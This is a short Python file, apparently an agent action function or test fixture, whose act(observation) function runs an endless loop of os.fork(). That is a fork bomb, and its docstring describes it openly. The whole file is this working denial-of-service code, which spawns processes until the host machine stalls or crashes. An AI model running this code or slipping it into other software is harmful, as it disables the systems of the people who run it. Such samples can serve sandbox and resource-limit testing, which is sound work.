"""Forks without end, its children too."""

from __future__ import annotations

import os


def act(observation):
    while True:
        os.fork()
